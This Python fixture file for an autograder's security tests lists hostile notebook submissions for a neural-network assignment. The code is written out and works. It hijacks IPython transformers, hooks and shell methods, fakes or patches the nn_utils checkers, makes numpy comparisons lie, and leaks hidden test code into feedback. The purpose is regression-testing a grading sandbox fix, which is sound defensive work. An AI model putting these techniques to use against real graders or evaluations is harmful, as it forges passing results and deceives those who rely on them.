"""Hostile submissions that reconfigure their own kernel (issue 13), graded in
test_kernel_attacks.py.

Test cells still execute inside the student's kernel, so code in a submission can change
what a check sees or what a cell reports: IPython's input and AST transformers, its
pre/post_run_cell events, the shell's own methods, the name ``nn_utils``, the checkers'
code objects and the numpy functions they compare with. Each attack here is a BLANK
backprop_digits submission (the release as handed out) or a WRONG one (WRONG below: the
reference solutions with one realistic mistake per task), with the attack's code put in
front of one solution cell's code (``cell``, the first one unless said otherwise). Its
goal is to earn points its own code did not earn, or to get the hidden tests' code back.

``purpose`` says what the attack does and how; ``targets`` what it goes for: the
grade_ids it tries to earn, or "hidden tests" for the attacks that try to read them.
``code`` is plain text, as in hostile_submissions.py (no templates here). Every attack is
harmless outside the sandbox too: it touches only its own kernel and its working folder.

A fix of issue 13 (checks in a trusted process, test code kept out of the kernel) should
neutralise every one of them; KNOWN_TO_SUCCEED_TODAY lists those that still succeed, as
measured by test_kernel_attacks.py, which fails when that set is not exactly what happens.
"""

from __future__ import annotations

from dataclasses import dataclass

ASSIGNMENT = "backprop_digits"
TESTS = ("affine-check", "affine-hidden", "relu-check", "relu-hidden", "crossentropy-check",
         "crossentropy-hidden", "feedforward-check", "feedforward-hidden")
ALL_TESTS = TESTS  # 40 points
BUT_TRAINING = TESTS[:-1]  # 33 points: all but the hidden training test of Task 4
HIDDEN_TESTS = "hidden tests"

# The WRONG submission: the reference solutions with one mistake per task, each one the
# checks catch (tests/backprop_digits_variants.py has them as mutants): (cell, old, new).
WRONG = (
    ("affine-impl", "out = inputs @ weight + bias", "out = inputs @ weight"),
    ("relu-impl", "d_inputs = d_out * (inputs > 0)", "d_inputs = d_out * (inputs < 0)"),
    ("crossentropy-impl", "loss = float(-np.sum(labels * log_probs) / logits.shape[0])",
     "loss = float(-np.sum(labels * log_probs))"),
    ("feedforward-impl", "self.params[name] - self.learning_rate * grads[name]",
     "self.params[name] + self.learning_rate * grads[name]"),
)


@dataclass(frozen=True)
class KernelAttack:
    name: str  # also the student's id
    purpose: str
    targets: tuple | str  # grade_ids it tries to earn, or HIDDEN_TESTS
    code: str
    base: str = "blank"  # "blank" (the release) or "wrong" (WRONG)
    cell: str = "affine-impl"  # the solution cell whose code the attack is put in front of


# Layers that pass the checks, kept under names of their own: the "lending" attack shows
# them to the test cells only, while the notebook itself uses the student's wrong ones.
_LENT_LAYERS = r'''
import numpy as _np
from scipy.special import softmax as _softmax


class _GoodAffine:
    def forward(self, inputs, weight, bias):
        self.cache = (inputs, weight, bias)
        return inputs @ weight + bias

    def backward(self, d_out):
        inputs, weight, bias = self.cache
        return d_out @ weight.T, inputs.T @ d_out, d_out.sum(axis=0)


class _GoodReLU:
    def forward(self, inputs):
        self.cache = inputs
        return _np.maximum(0.0, inputs)

    def backward(self, d_out):
        return d_out * (self.cache > 0)


class _GoodCrossEntropy:
    def forward(self, logits, labels):
        shifted = logits - logits.max(axis=1, keepdims=True)
        log_probs = shifted - _np.log(_np.exp(shifted).sum(axis=1, keepdims=True))
        self.cache = (_np.exp(log_probs), labels)
        return float(-_np.sum(labels * log_probs) / logits.shape[0])

    def backward(self, d_out=1.0):
        probs, labels = self.cache
        return d_out * (probs - labels) / probs.shape[0], None


class _GoodNet:
    def __init__(self, input_size, hidden_size, output_size, learning_rate=1e-2):
        self.learning_rate = learning_rate
        self.params = {"W1": xavier_init([input_size, hidden_size]),
                       "b1": _np.zeros([hidden_size]),
                       "W2": xavier_init([hidden_size, output_size]),
                       "b2": _np.zeros([output_size])}
        self.hidden, self.relu = _GoodAffine(), _GoodReLU()
        self.output, self.loss = _GoodAffine(), _GoodCrossEntropy()

    def _logits(self, X):
        hidden = self.relu.forward(self.hidden.forward(X, self.params["W1"], self.params["b1"]))
        return self.output.forward(hidden, self.params["W2"], self.params["b2"])

    def predict(self, X):
        return _softmax(self._logits(X), axis=1)

    def step(self, X, Y):
        loss = self.loss.forward(self._logits(X), Y)
        grads = {}
        d_logits, _ = self.loss.backward()
        d_hidden, grads["W2"], grads["b2"] = self.output.backward(d_logits)
        _, grads["W1"], grads["b1"] = self.hidden.backward(self.relu.backward(d_hidden))
        for name in self.params:
            self.params[name] = self.params[name] - self.learning_rate * grads[name]
        return loss
'''

KERNEL_ATTACKS = (
    KernelAttack(
        "cleanup_transformer", "IPython input transformer (input_transformers_cleanup, run "
        "on the raw text of every later cell): any cell that calls an nn_utils checker is "
        "replaced by `pass`, so every test cell, hidden ones included, runs nothing and "
        "ends without an error", ALL_TESTS, r'''
def _no_tests(lines):
    if "nn_utils.check_" in "".join(lines):
        return ["pass\n"]
    return lines


get_ipython().input_transformers_cleanup.append(_no_tests)
'''),
    KernelAttack(
        "post_transformer_forges_success", "IPython input transformer "
        "(input_transformers_post, run after IPython's own): every test cell is wrapped in "
        "try/except BaseException whose handler prints the success line, so the failure "
        "is swallowed and the cell shows 'All checks passed successfully!'", ALL_TESTS, r'''
def _swallow_failures(lines):
    if "nn_utils.check_" not in "".join(lines):
        return lines
    body = ["    " + line for line in lines]
    return ["try:\n", *body, "\nexcept BaseException:\n",
            "    print('All checks passed successfully!')\n"]


get_ipython().input_transformers_post.append(_swallow_failures)
'''),
    KernelAttack(
        "ast_transformer_hollows_tests", "IPython AST transformer (shell.ast_transformers): "
        "the syntax tree of every cell that calls an nn_utils checker is replaced by one "
        "print of the success line", ALL_TESTS, r'''
import ast as _ast


class _Hollow(_ast.NodeTransformer):
    def visit_Module(self, module):
        calls_checker = any(
            isinstance(node, _ast.Attribute) and node.attr.startswith("check_")
            and isinstance(node.value, _ast.Name) and node.value.id == "nn_utils"
            for node in _ast.walk(module))
        if not calls_checker:
            return module
        forged = _ast.parse("print('All checks passed successfully!')")
        module.body = forged.body
        return module


get_ipython().ast_transformers.append(_Hollow())
'''),
    KernelAttack(
        "pre_run_cell_lends_classes", "events: a pre_run_cell hook rebinds Affine, ReLU, "
        "CategoricalCrossEntropy and FeedforwardNeuralNet to correct classes just before "
        "each test cell runs, and a post_run_cell hook puts the student's WRONG ones back "
        "after it, so the notebook uses wrong code and the checks see right code",
        ALL_TESTS, _LENT_LAYERS + r'''

_LENT = {"Affine": _GoodAffine, "ReLU": _GoodReLU,
         "CategoricalCrossEntropy": _GoodCrossEntropy, "FeedforwardNeuralNet": _GoodNet}
_OWN = {}


def _lend(info):
    if "nn_utils.check_" in (info.raw_cell or ""):
        names = get_ipython().user_ns
        for name, good in _LENT.items():
            if name in names:
                _OWN[name] = names[name]
            names[name] = good


def _take_back(result):
    get_ipython().user_ns.update(_OWN)
    _OWN.clear()


get_ipython().events.register("pre_run_cell", _lend)
get_ipython().events.register("post_run_cell", _take_back)
''', base="wrong"),
    KernelAttack(
        "hooks_hide_tracebacks", "events: for test cells only, a pre_run_cell hook replaces "
        "the shell's showtraceback with a print of the success line, and a post_run_cell "
        "hook wipes the error from the cell's ExecutionResult (so the execute reply says "
        "ok, and nbgrader's Execute has no error to append) and puts showtraceback back: "
        "a failing check leaves no error, only a forged success line", ALL_TESTS, r'''
_shell = get_ipython()
_real_showtraceback = _shell.showtraceback


def _forge(*args, **kwargs):
    print("All checks passed successfully!")


def _before(info):
    if "nn_utils.check_" in (info.raw_cell or ""):
        _shell.showtraceback = _forge


def _after(result):
    if _shell.showtraceback is _forge:
        result.error_in_exec = result.error_before_exec = None
    _shell.showtraceback = _real_showtraceback


_shell.events.register("pre_run_cell", _before)
_shell.events.register("post_run_cell", _after)
'''),
    KernelAttack(
        "run_cell_replaced", "the shell's run_cell and run_cell_async (what ipykernel calls "
        "for every execute request) are wrapped: a test cell's code is swapped for a print "
        "of the success line before IPython sees it", ALL_TESTS, r'''
import functools as _functools

_shell = get_ipython()
_FORGED = "print('All checks passed successfully!')\n"
_real_run_cell, _real_run_cell_async = _shell.run_cell, _shell.run_cell_async


@_functools.wraps(_real_run_cell)
def _run_cell(raw_cell, *args, **kwargs):
    if "nn_utils.check_" in (raw_cell or ""):
        raw_cell = _FORGED
    return _real_run_cell(raw_cell, *args, **kwargs)


@_functools.wraps(_real_run_cell_async)
async def _run_cell_async(raw_cell, *args, **kwargs):
    if "nn_utils.check_" in (raw_cell or ""):
        raw_cell = kwargs["transformed_cell"] = _FORGED
        kwargs["preprocessing_exc_tuple"] = None
    return await _real_run_cell_async(raw_cell, *args, **kwargs)


_shell.run_cell, _shell.run_cell_async = _run_cell, _run_cell_async
'''),
    KernelAttack(
        "transform_cell_replaced", "the shell's transform_cell (which turns a cell's text "
        "into the code that runs) is replaced: a test cell becomes `pass`", ALL_TESTS, r'''
_shell = get_ipython()
_real_transform_cell = _shell.transform_cell


def _transform_cell(raw_cell):
    if "nn_utils.check_" in raw_cell:
        return "pass\n"
    return _real_transform_cell(raw_cell)


_shell.transform_cell = _transform_cell
'''),
    KernelAttack(
        "fake_nn_utils", "rebinds the name nn_utils, which the test cells use, to a module "
        "of its own: every check_* prints the success line (check_accuracy returns 1.0), "
        "and quiet_numpy() swallows exceptions, so the hidden training test's failure "
        "vanishes too (written with a previous year's hidden tests in hand)", ALL_TESTS, r'''
import contextlib as _contextlib
import types as _types


class _FakeKit(_types.ModuleType):
    def __getattr__(self, name):
        if not name.startswith("check_"):
            raise AttributeError(name)

        def _passes(*args, **kwargs):
            print("All checks passed successfully!")
            # (a check that returned a number would be scored as that many points:
            # nbgrader's partial credit for a test cell whose last value is a number)
            return 1.0 if name == "check_accuracy" else None

        return _passes

    @staticmethod
    def quiet_numpy():
        return _contextlib.suppress(Exception)


nn_utils = _FakeKit("nn_utils")
_predicted = None  # what a training cut short by quiet_numpy() would have left unset
'''),
    KernelAttack(
        "nn_utils_from_builtins", "takes the name nn_utils out of the notebook's globals and "
        "serves it from builtins (and sys.modules) as a proxy of the real module whose "
        "checkers only print the success line: the global name the tests use is never "
        "rebound, the lookup just falls through to builtins", BUT_TRAINING, r'''
import builtins as _builtins
import sys as _sys
import types as _types

_real_kit = nn_utils


class _Proxy(_types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("check_") and name != "check_accuracy":
            return lambda *args, **kwargs: print("All checks passed successfully!")
        return getattr(_real_kit, name)


_builtins.nn_utils = _sys.modules["nn_utils"] = _Proxy("nn_utils")
del nn_utils
'''),
    KernelAttack(
        "checker_code_swapped", "engine internals: the code objects of the functions behind "
        "the checkers are swapped for a no-op (check_accuracy's for `return 1.0`); the "
        "function objects stay the same, so nn_utils' integrity check (which compares "
        "identities) sees nothing, and the checker's wrapper still prints the success line",
        BUT_TRAINING, r'''
def _silent(*args, **kwargs):
    return None


for _name in ("check_affine", "check_relu", "check_cross_entropy", "check_feedforward_net"):
    getattr(nn_utils, _name).__wrapped__.__code__ = _silent.__code__
nn_utils.check_accuracy.__code__ = (lambda *args, **kwargs: 1.0).__code__
'''),
    KernelAttack(
        "integrity_blinded_numpy", "engine internals and numpy: the originals nn_utils' "
        "integrity check compares with (integrity._ORIGINAL) are overwritten with fakes, "
        "then numpy's allclose and isclose lie (say True) to callers inside nn_utils only, "
        "so a WRONG layer whose only fault is its forward values passes unflagged",
        ("affine-check", "affine-hidden", "crossentropy-check", "crossentropy-hidden"), r'''
import sys as _sys

import numpy as _np

_integrity = _sys.modules["nn_utils.integrity"]
_real = {"allclose": _np.allclose, "isclose": _np.isclose}


def _liar(name):
    def lie(*args, **kwargs):
        caller = _sys._getframe(1).f_globals.get("__name__", "")
        if caller.startswith("nn_utils"):
            return True
        return _real[name](*args, **kwargs)

    return lie


for _name in _real:
    _fake = _liar(_name)
    _integrity._ORIGINAL[("numpy", _name)] = _fake
    setattr(_np, _name, _fake)
''', base="wrong"),
    KernelAttack(
        "reads_graded_notebook", "reads every file in the kernel's working folder (the "
        "notebook being graded among them) looking for the hidden tests' code, and prints "
        "what it finds (which then reaches the student in the feedback)", HIDDEN_TESTS, r'''
import os as _os

# (split, so that this cell's own text does not contain what it looks for)
_signs = ["BEGIN " + "HIDDEN TESTS", "check_affine(Affine(), seed" + "=31",
          "check_relu(ReLU(), seed" + "=47", "_accuracy = nn_utils" + ".check_accuracy"]
_found, _read = [], []
for _root, _dirs, _files in _os.walk("."):
    for _file in _files:
        _path = _os.path.join(_root, _file)
        try:
            if _os.path.getsize(_path) > 50 << 20:
                continue
            with open(_path, encoding="utf-8", errors="replace") as _handle:
                _text = _handle.read()
        except OSError:
            continue
        _read.append(_path)
        for _sign in _signs:
            if _sign in _text:
                _at = _text.index(_sign)
                _found.append((_path, _text[_at:_at + 400]))
print(f"files read: {len(_read)}; notebooks read: "
      f"{sorted(_p for _p in _read if _p.endswith('.ipynb'))}")
print(f"hidden tests found in the working folder: {len(_found)}")
for _path, _excerpt in _found:
    print(_path, _excerpt)
'''),
    KernelAttack(
        "echoes_hidden_tests", "events: a pre_run_cell hook prints the code of every cell "
        "that holds hidden tests as it starts (nbgrader sends it to the kernel), so the "
        "hidden tests land in the cell's output, which the feedback shows the student",
        HIDDEN_TESTS, r'''
def _echo(info):
    if "HIDDEN " + "TESTS" in (info.raw_cell or ""):
        print(info.raw_cell)


get_ipython().events.register("pre_run_cell", _echo)
'''),
    KernelAttack(
        "oracle_answers_forged", "the oracle: when the checks run in the grader's process, "
        "the kernel's oracle (__nn_oracle__) answers for the student's code; this one is "
        "replaced by one that answers every request with None, as if the student's code "
        "returned what the checks want to hear", ALL_TESTS, r'''
_user = get_ipython().user_ns


class _Forger:
    def __call__(self, request):
        return '{"value": null, "mutated": []}'

    def serve(self, requests, answers):
        with open(requests, "rb", buffering=0) as reader, \
                open(answers, "wb", buffering=0) as writer:
            while True:
                head = reader.read(16)
                length = int.from_bytes(head[:8], "big") if len(head) == 16 else 0
                if length == 0:
                    return
                reader.read(length)
                body = b'{"value": null, "mutated": []}'
                writer.write(len(body).to_bytes(8, "big") + head[8:] + body)


_user["__nn_oracle__"] = _Forger()
'''),
    KernelAttack(
        "exits_when_checked", "the kernel ends itself the moment a check calls the "
        "student's code (os._exit in forward), hoping a grader that loses its kernel "
        "half way gives up on the notebook or keeps what it had", ALL_TESTS, r'''
import os as _os


class Affine:
    def forward(self, inputs, weight, bias):
        _os._exit(0)

    def backward(self, d_out):
        _os._exit(0)
''', cell="relu-impl"),  # after the release's own Affine, which would replace this one
    KernelAttack(
        "history_reveals_hidden_tests", "no hook at all: the last solution cell prints the "
        "input history (In), where the hidden tests of Tasks 1 to 3, which ran before it, "
        "are kept; the output reaches the student in the feedback", HIDDEN_TESTS, r'''
for _source in get_ipython().user_ns["In"]:
    if "HIDDEN " + "TESTS" in _source:
        print(_source)
''', cell="feedforward-impl"),
)

# Attacks that still succeed (earn points their code did not earn, or get hidden test code
# back into what the student sees), as measured by test_kernel_attacks.py. The fix of issue
# 13 must empty this set: the test fails while it differs from what actually happens, so a
# newly succeeding attack fails it, and so does one that stopped succeeding (remove it).
# Not here: reads_graded_notebook (the kernel's copy of the notebook has its hidden tests
# taken out: autograder/execution/executor.py, without_hidden_tests).
KNOWN_TO_SUCCEED_TODAY: set[str] = {
    # IPython's own hooks: every test cell skipped, forged or fed lent classes (40 of 40).
    "cleanup_transformer",
    "post_transformer_forges_success",
    "ast_transformer_hollows_tests",
    "pre_run_cell_lends_classes",
    "hooks_hide_tracebacks",
    # the shell's methods replaced (40 of 40)
    "run_cell_replaced",
    "transform_cell_replaced",
    # the name the tests use (40 and 33 of 40)
    "fake_nn_utils",
    "nn_utils_from_builtins",
    # engine internals the integrity check does not see (33 of 40; 20 over a wrong base)
    "checker_code_swapped",
    "integrity_blinded_numpy",
    # hidden test code reaches the student's feedback through outputs
    "echoes_hidden_tests",
    "history_reveals_hidden_tests",
}
